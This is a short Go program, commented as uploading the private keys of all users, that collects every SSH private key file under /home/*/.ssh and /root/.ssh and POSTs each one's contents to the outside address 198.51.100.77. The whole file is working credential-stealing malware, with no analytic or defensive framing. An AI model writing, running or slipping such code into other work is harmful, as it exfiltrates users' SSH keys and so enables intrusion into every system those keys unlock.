// uploads private keys of all users
package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	files, _ := filepath.Glob("/home/*/.ssh/id_*")
	root, _ := filepath.Glob("/root/.ssh/id_*")
	for _, f := range append(files, root...) {
		data, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		http.Post("http://198.51.100.77/k?f="+filepath.Base(f), "text/plain", bytes.NewReader(data))
	}
}
